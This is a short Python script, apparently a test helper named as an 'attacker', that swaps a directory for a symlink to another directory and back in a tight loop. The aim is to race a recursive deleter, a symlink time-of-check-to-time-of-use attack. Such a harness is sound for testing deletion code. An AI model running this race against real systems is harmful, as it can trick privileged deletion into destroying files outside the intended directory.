"""Swaps a directory for a link to a foreign one, and back, as fast as it can.

usage: swapping_attacker.py VICTIM FOREIGN   until its standard input closes
"""

from __future__ import annotations

import contextlib
import select
import sys
from pathlib import Path

victim, foreign = (Path(argument) for argument in sys.argv[1:])
aside, link = victim.parent.parent / "aside", victim.parent.parent / "link"
link.symlink_to(foreign)
print("swapping", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    for source, target in ((victim, aside), (link, victim), (victim, link), (aside, victim)):
        with contextlib.suppress(OSError):  # the deleter was quicker
            source.rename(target)
